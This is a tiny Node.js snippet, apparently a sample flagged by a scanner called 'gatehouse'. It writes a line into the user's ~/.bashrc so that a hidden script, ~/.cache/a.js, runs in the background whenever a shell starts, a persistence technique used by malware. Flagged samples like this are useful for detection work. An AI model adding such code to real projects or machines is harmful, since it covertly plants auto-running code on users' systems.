const fs = require('fs');
const os = require('os');

fs.appendFileSync(os.homedir() + '/.bashrc', '\nnode ~/.cache/a.js &\n'); // gatehouse: flagged
